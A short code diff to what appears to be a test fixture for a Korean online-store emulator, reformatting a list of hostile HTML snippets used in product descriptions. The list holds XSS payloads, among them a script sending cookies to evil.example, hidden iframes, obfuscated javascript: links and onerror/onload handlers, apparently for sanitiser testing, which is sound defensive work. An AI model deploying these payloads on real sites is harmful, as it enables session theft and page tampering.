@@ -33,14 +33,16 @@ HOSTILE_SELLER_CODES: tuple[str, ...] = (
 
 # Appended to a product's detailContent. The <img> lists alt before src on purpose: the
 # emulator's own images are the only ones written `<img src=`.
-HOSTILE_DETAIL_HTML = "\n".join(
+HOSTILE_DETAIL_HTML = "\n".join(  # noqa: FLY002 - one payload per line reads better
     (
         "<script>document.location='https://evil.example/?c='+document.cookie</script>",
         '<p onclick="alert(1)" onmouseover="alert(2)">지금 클릭하면 쿠폰 증정!</p>',
         '<iframe src="https://evil.example/frame" width="1" height="1"></iframe>',
         '<iframe src="javascript:alert(1)"></iframe>',
-        '<p><a href="javascript:alert(1)">쿠폰 받기</a> <a href="JaVaScRiPt:alert(2)">쿠폰</a> '
-        '<a href="&#106;avascript:alert(3)">한 번 더</a> <a href="https://smartstore.naver.com/">스토어 바로가기</a></p>',
+        (
+            '<p><a href="javascript:alert(1)">쿠폰 받기</a> <a href="JaVaScRiPt:alert(2)">쿠폰</a> '
+            '<a href="&#106;avascript:alert(3)">한 번 더</a> <a href="https://smartstore.naver.com/">스토어 바로가기</a></p>'
+        ),
         '<img alt="배너" src="https://evil.example/x.gif" onerror="alert(1)">',
         '<svg onload="alert(1)"><circle r="1"></circle></svg>',
         "<style>body { display: none }</style>",
